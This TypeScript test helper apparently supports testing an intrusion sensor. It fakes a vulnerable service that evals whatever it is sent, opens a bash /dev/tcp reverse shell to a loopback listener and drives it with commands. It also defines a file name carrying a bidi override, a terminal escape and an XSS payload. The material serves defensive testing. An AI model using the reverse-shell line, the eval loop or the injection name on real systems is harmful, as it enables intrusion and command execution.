import { spawn } from 'node:child_process'
import { once } from 'node:events'
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { type AddressInfo, connect, createServer, type Socket } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as delay } from 'node:timers/promises'

/** A file name that would turn the reading direction, recolour a terminal, and open a tag. */
export const EVIL_NAME = 'ev\u202Egpj.li\u001b[31m<img src=x onerror=alert(1)>'

/**
 * A small service of this machine that runs whatever it is told, as one with a hole does. Start it before the sensor: then
 * it is one of the programs that were always there, without a test above it.
 */
export interface Service extends AsyncDisposable {
  readonly name: string
  /** Has the service start a shell whose input and output are a loopback connection. */
  breakIn(): Promise<Intruder>
}

/** Who sits at the other end of such a shell. */
export interface Intruder {
  /** Of the shell. */
  readonly pid: number
  /** Has the shell run a command and waits until it has answered. */
  readonly order: (command: string) => Promise<string>
  /** State letter of the shell in /proc: `S` sleeps, `T` is stopped. Undefined once it is gone. */
  state(): string | undefined
}

export async function startService(name: string): Promise<Service> {
  const scratch = mkdtempSync(join(tmpdir(), 'vedette-service-'))
  copyFileSync('/bin/sh', join(scratch, name))
  copyFileSync('/bin/sleep', join(scratch, EVIL_NAME))
  chmodSync(join(scratch, EVIL_NAME), 0o755)
  writeFileSync(
    join(scratch, 'serve'),
    `echo $$ > pid\nwhile read -r order; do eval "$order" & done\nrm -f pid\n`,
  )
  const mouth = await loopback()
  // The shell in between ends at once, so that the service belongs to init.
  const starter = spawn('/bin/sh', ['-c', `exec 3<&0; ./${name} serve <&3 &`], {
    cwd: scratch,
    stdio: [mouth.near, 'ignore', 'ignore'],
    env: { PATH: '/usr/bin:/bin' },
    detached: true,
  })
  await once(starter, 'exit')
  mouth.near.destroy()
  const pidFile = join(scratch, 'pid')
  while (!existsSync(pidFile) || readFileSync(pidFile, 'utf8') === '') await delay(10)
  const shells: Line[] = []

  return {
    name,
    async breakIn() {
      const listener = createServer()
      listener.listen(0, '127.0.0.1')
      await once(listener, 'listening')
      const called = once(listener, 'connection') as Promise<[Socket]>
      const { port } = listener.address() as AddressInfo
      // dash knows no /dev/tcp: bash makes the connection and becomes the shell on it.
      mouth.far.write(`exec bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}; exec sh <&3 >&3 2>&3'\n`)
      const [socket] = await called
      listener.close()
      const line = talk(socket)
      shells.push(line)
      const pid = Number(await line.order('echo $$'))
      return {
        pid,
        order: line.order,
        state() {
          try {
            const stat = readFileSync(`/proc/${pid}/stat`, 'utf8')
            return stat.slice(stat.lastIndexOf(')') + 2).charAt(0)
          } catch {
            return undefined
          }
        },
      }
    },
    async [Symbol.asyncDispose]() {
      for (const shell of shells) shell.hangUp()
      // The end of its input is the end of the service.
      mouth.far.destroy()
      for (let tries = 0; existsSync(pidFile) && tries < 500; tries += 1) await delay(10)
      rmSync(scratch, { recursive: true, force: true })
    },
  }
}

interface Line {
  readonly order: (command: string) => Promise<string>
  readonly hangUp: () => void
}

/** Speaks to a shell at the other end, one order after the other. */
function talk(socket: Socket): Line {
  socket.setEncoding('utf8').on('error', () => undefined)
  let orders = 0
  return {
    order: async (command) => {
      orders += 1
      const end = `order-${orders}-done`
      let answer = ''
      try {
        await new Promise<void>((resolve, reject) => {
          socket.on('data', (text: string) => {
            answer += text
            if (answer.includes(end)) resolve()
          })
          socket.once('close', () => reject(new Error(`The shell hung up after: ${answer}`)))
          socket.write(`${command}\necho ${end}\n`)
        })
      } finally {
        socket.removeAllListeners('data').removeAllListeners('close')
      }
      return answer.slice(0, answer.indexOf(end)).trim()
    },
    hangUp: () => socket.destroy(),
  }
}

/** Two ends of one loopback connection. */
async function loopback(): Promise<{ near: Socket; far: Socket }> {
  const listener = createServer()
  listener.listen(0, '127.0.0.1')
  await once(listener, 'listening')
  const called = once(listener, 'connection') as Promise<[Socket]>
  const near = connect((listener.address() as AddressInfo).port, '127.0.0.1')
  await once(near, 'connect')
  const [far] = await called
  listener.close()
  far.on('error', () => undefined)
  return { near, far }
}
